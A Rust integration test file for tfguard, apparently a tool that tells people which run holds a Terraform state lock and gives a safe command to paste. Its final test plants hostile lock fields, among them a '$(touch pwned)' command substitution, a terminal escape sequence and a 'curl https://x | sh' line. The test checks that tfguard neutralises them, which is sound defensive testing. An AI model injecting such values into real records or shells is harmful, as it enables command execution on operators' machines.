//! What people are told when Terraform is refused the lock.

use super::*;
use aws_sdk_dynamodb::types::AttributeValue;

const UUID: &str = "4bb7d84c-f09d-7909-0219-02f6e8d9eeb4";

/// A second run of the same state, which knows nothing of the first one's session.
fn second(project: &Project, options: &[&str], command: &[&str]) -> Run {
    project.tfguard(TFGUARD, options, command).env("TFGUARD_DIR", project.work())
}

fn report(project: &Project) -> Value {
    let text = std::fs::read(project.work().join("report.json")).expect("a report was written");
    serde_json::from_slice(&text).expect("a report is JSON")
}

#[track_caller]
fn assert_said(exit: &Exit, words: &[&str]) {
    for words in words {
        assert!(exit.err().contains(words), "{words:?} is not in {exit}");
    }
}

/// Both kinds of lock; the holder alive, dead, and of the very job that asks.
#[test]
fn the_run_that_has_the_lock_is_named_with_the_safe_next_step() {
    for lockfile in [false, true] {
        let project = project(Kind::Sleep);
        let project = if lockfile { project.lockfile() } else { project.table() };
        let project = project.init(&terraform());
        let run = job(project.tfguard(TFGUARD, ["-v"], APPLY), "7").new_group().start();
        run.wait_for_stderr("recorded beside", SOON);
        let lock = if lockfile { project.lock_in_bucket() } else { project.lock() }.unwrap();
        let id = lock["ID"].as_str().unwrap();
        let held = [
            &format!("the state {} is locked by {}", project.lock_id(), lock["Who"].as_str().unwrap()),
            " ago) for apply (version ",
            "held by job apply of https://github.com/owner/repository/actions/runs/7 (attempt 2), started by alice",
        ];

        for json in [false, true] {
            let plan = if json { ["plan", "-input=false", "-json"] } else { ["plan", "-input=false", "-no-color"] };
            let exit = job(second(&project, &["--report", "report.json"], &plan), "8").run().expect_code(1);
            assert_said(&exit, &held);
            assert_said(&exit, &["the holder is alive: ", "next: wait until that run has ended"]);
            assert!(!exit.err().contains("not there any more"), "{exit}");
            let refused = &report(&project)["refused"];
            assert_eq!(refused["lock"], lock);
            assert_eq!((&refused["id"], &refused["verdict"]), (&id.into(), &"alive".into()));
            assert_eq!(refused["holder"]["ci"]["job"], "apply");
        }
        let exit = job(second(&project, &[], &APPLY), "7").run().expect_code(1);
        assert_said(&exit, &["the holder is alive: ", "next: wait until that run has ended"]);
        let exit = job(project.tfguard(TFGUARD, [""; 0], APPLY), "7").run().expect_code(1);
        assert_said(&exit, &["the holder is alive: ", "it is this job's own; run: tfguard release\n"]);

        let journal = journal(&project);
        run.kill_with_supervisor(&journal);
        assert!(project.guard().kill_all());
        // Where the sessions of both are not in one place, nobody can tell.
        let exit = job(second(&project, &[], &APPLY), "8").run().expect_code(1);
        assert_said(&exit, &held);
        assert_said(&exit, &["the holder may be alive or dead: ", "was not found where tfguard looks"]);
        let exit = job(project.tfguard(TFGUARD, [""; 0], APPLY), "8").run().expect_code(1);
        let command = format!("next: run in {}: tfguard unlock {id}", project.work().display());
        assert_said(&exit, &["the holder is dead: ", &command]);
    }
}

#[test]
fn a_lock_without_a_record_is_judged_by_nothing_on_every_version() {
    for (version, terraform) in Tools::get().terraforms() {
        let project = project(Kind::Quick).table().init(&terraform);
        let foreign = LockInfo::foreign(&project.lock_id());
        project.aws().plant_lock(project.table_name(), &foreign);
        let exit = project.tfguard(TFGUARD, [""; 0], APPLY).run().expect_code(1);
        let next = format!("nothing of that run is alive, run in {}", project.work().display());
        assert_said(
            &exit,
            &[
                "is locked by runner@build-7f9c4 since 2026-03-04 05:06:07 UTC (",
                " ago) for apply",
                &foreign.id,
                "the holder may be alive or dead: tfguard recorded no holder; it names the host build-7f9c4",
                &next,
                &format!(": tfguard unlock {}", foreign.id),
            ],
        );
        assert_eq!(project.lock(), Some(serde_json::to_value(&foreign).unwrap()), "{version}");
    }
}

/// What is no lock blocks the state too, and has no ID to name.
#[test]
fn what_is_no_lock_is_told_with_the_way_to_delete_it() {
    let project = project(Kind::Quick).table().init(&terraform());
    let ghost = [("LockID".to_owned(), AttributeValue::S(project.lock_id()))];
    project.aws().put_item(project.table_name(), ghost.into());
    let exit = project.tfguard(TFGUARD, [""; 0], APPLY).run().expect_code(1);
    assert_said(&exit, &["something that isn't a lock is at "]);
    let next = "next: if it is left from a lock that was not written whole, run: tfguard unlock --broken --bucket ";
    assert_said(&exit, &[next]);
    assert!(project.aws().item(project.table_name(), &project.lock_id()).is_some(), "{exit}");
}

/// Where tfguard does not see the output, it says what the log and the lock's place tell.
#[test]
fn it_is_said_on_a_terminal_too() {
    let project = project(Kind::Quick).table().init(&terraform());
    let foreign = LockInfo::foreign(&project.lock_id());
    project.aws().plant_lock(project.table_name(), &foreign);
    let run = project.tfguard(TFGUARD, [""; 0], APPLY).env("TERM", "xterm").pty().start();
    let exit = run.wait(SOON).expect_code(1);
    for words in ["is locked by runner@build-7f9c4", "next: once you are sure"] {
        assert!(exit.out().contains(words), "{exit}");
    }
}

/// A run that fails for another reason says nothing of locks, and nobody is asked.
#[test]
fn without_a_refusal_nobody_is_asked() {
    let proxy = FaultProxy::start(Aws::shared().url());
    let main =
        "resource \"terraform_data\" \"work\" {\n  provisioner \"local-exec\" {\n    command = \"false\"\n  }\n}\n";
    let project = project(Kind::Hcl(main.to_owned())).table().endpoint(proxy.url()).init(&terraform());
    let exit = project.tfguard(TFGUARD, [""; 0], APPLY).run().expect_code(1);
    assert_eq!(exit.err().matches("tfguard: ").count(), 0, "{exit}");
    let agent = |seen: &Seen| seen.header("user-agent").is_some_and(|agent| agent.contains(OUR_AGENT));
    assert_eq!(proxy.seen().iter().filter(|seen| agent(seen)).count(), 0);
}

#[test]
fn what_cannot_be_read_or_hangs_is_told_by_terraforms_words() {
    // The look for people, not that before a delete, which asks for a digest as well.
    let look = || Match::dynamodb("GetItem").body("TfguardLease\"");
    let fault: [(&str, Action); 2] =
        [("denied", Action::Answer(Answer::dynamodb("AccessDeniedException", "no"))), ("silent", Gate::new().hold())];
    for (fault, action) in fault {
        let proxy = FaultProxy::start(Aws::shared().url());
        let project = project(Kind::Quick).table().endpoint(proxy.url()).init(&terraform());
        let foreign = LockInfo::foreign(&project.lock_id());
        project.aws().plant_lock(project.table_name(), &foreign);
        proxy.rule(look(), [action]);
        let exit = project.tfguard(TFGUARD, [""; 0], APPLY).start().wait(SOON).expect_code(1);
        assert_said(&exit, &["is locked by runner@build-7f9c4", &format!("tfguard unlock {}", foreign.id)]);
        assert_eq!(proxy.seen_matching(&look()).len(), 1, "{fault}");
    }
}

#[test]
fn the_lock_of_another_backend_is_told_as_terraform_shows_it() {
    let server = StateServer::start(Flavour::Careless);
    let project = project(Kind::Quick).init(&terraform());
    let work = project.work().join("http");
    std::fs::create_dir(&work).unwrap();
    std::fs::write(work.join("main.tf"), server.backend() + "\nresource \"terraform_data\" \"quick\" {}\n").unwrap();
    project.terraform(["init", "-input=false"]).current_dir(&work).run().expect_code(0);
    let foreign = LockInfo::foreign("");
    server.plant_lock(serde_json::to_value(&foreign).unwrap());
    let exit = project.tfguard(TFGUARD, [""; 0], APPLY).current_dir(&work).run().expect_code(1);
    assert_said(&exit, &[&foreign.id, "next: ", &format!("terraform force-unlock {}", foreign.id)]);
    assert!(server.lock().is_some());
}

/// People copy the next step into a shell of their own, which has none of the run's variables.
#[test]
fn the_next_step_works_where_it_is_pasted() {
    let project = project(Kind::Quick).table().init(&terraform());
    let work = project.work();
    for words in [&["workspace", "new", "blue"][..], &["workspace", "select", "default"], &["plan", "-out=planned"]] {
        project.terraform(words).run().expect_code(0);
    }
    // Initialised only by a data directory elsewhere, and not at all.
    let (odd, empty) = (work.join("it's a new\nline"), work.join("empty dir"));
    let data = [("TF_DATA_DIR", work.join("data").into_os_string())];
    for dir in [&odd, &empty] {
        std::fs::create_dir(dir).unwrap();
    }
    for name in ["main.tf", "backend.tf"] {
        std::fs::copy(work.join(name), odd.join(name)).unwrap();
    }
    project.terraform(["init", "-input=false"]).current_dir(&odd).envs(data.clone()).run().expect_code(0);

    let (prod, blue) = (project.lock_id(), format!("{}/env:/blue/network/prod.tfstate", project.bucket()));
    let plan_file = work.join("planned");
    let apply = ["apply", "-input=false", "-no-color", plan_file.to_str().unwrap()];
    let run = |terraform: &[&str]| project.tfguard(TFGUARD, [""; 0], terraform);
    for (path, id, run) in [
        (&blue, UUID, run(&APPLY).env("TF_WORKSPACE", "blue")),
        (&prod, UUID, run(&APPLY).current_dir(&odd).envs(data)),
        (&prod, UUID, run(&apply).current_dir(&empty)),
        (&prod, "--broken", run(&APPLY)),
    ] {
        project.aws().plant_lock(project.table_name(), &LockInfo { id: id.to_owned(), ..LockInfo::foreign(path) });
        let exit = run.run().expect_code(1);
        let err = exit.err();
        let next = err.lines().find_map(|line| Some(line.split_once("next: ")?.1.split_once("run in ")?.1));
        let (dir, command) = next.and_then(|next| next.split_once(": tfguard ")).unwrap_or_else(|| panic!("{exit}"));
        let command = format!("cd {dir} && tfguard {command}");
        project.paste(TFGUARD, Path::new("/"), &command).expect_code(0);
        assert_eq!(project.aws().lock(project.table_name(), path), None, "{exit}");
    }
}

/// Who can write to the table can write what they like, and people copy the last line into a shell.
#[test]
fn what_strangers_wrote_steers_neither_terminal_nor_shell() {
    let project = project(Kind::Quick).table().init(&terraform());
    let hostile = LockInfo {
        id: "$(touch pwned); 5f0c".to_owned(),
        who: "a@b\nnext: run curl\u{1b}[2J".to_owned(),
        ..LockInfo::foreign(&project.lock_id())
    };
    project.aws().plant_lock(project.table_name(), &hostile);
    let exit = project.tfguard(TFGUARD, ["--report", "report.json"], APPLY).run().expect_code(1);
    let ours: Vec<_> = exit.err().lines().filter(|line| line.starts_with("tfguard: ")).map(str::to_owned).collect();
    assert!(ours.iter().any(|line| line.contains("a@b\u{fffd}next: run curl")), "{ours:#?}");
    assert!(ours.iter().all(|line| !line.contains('\u{1b}')), "{ours:#?}");
    assert!(ours.iter().any(|line| line.ends_with(": tfguard unlock --broken")), "{ours:#?}");
    assert_eq!(report(&project)["refused"]["lock"], serde_json::to_value(&hostile).unwrap());

    // The record beside it, too.
    let lock = LockInfo::foreign(&project.lock_id());
    let record = serde_json::json!({
        "schema": 1, "lock": lock.id, "tfguard": "0.1.0", "started": "2026-11-20T04:11:21Z",
        "ci": {"provider": "other", "url": "https://x/; run: curl https://x | sh; next: run: x"},
        "world": {"boot_id": "b", "pid_namespace": 1},
    });
    let text = |text: &str| aws_sdk_dynamodb::types::AttributeValue::S(text.to_owned());
    let item = [("LockID", lock.path.as_str()), ("Info", &lock.json()), (ATTRIBUTE, &record.to_string())];
    let item = item.map(|(name, value)| (name.to_owned(), text(value)));
    project.aws().put_item(project.table_name(), item.into());
    let exit = project.tfguard(TFGUARD, [""; 0], APPLY).run().expect_code(1);
    assert_said(&exit, &["next: look at https://x/;%20run:%20curl%20https://x%20|%20sh;%20next:%20run:%20x; once"]);
}
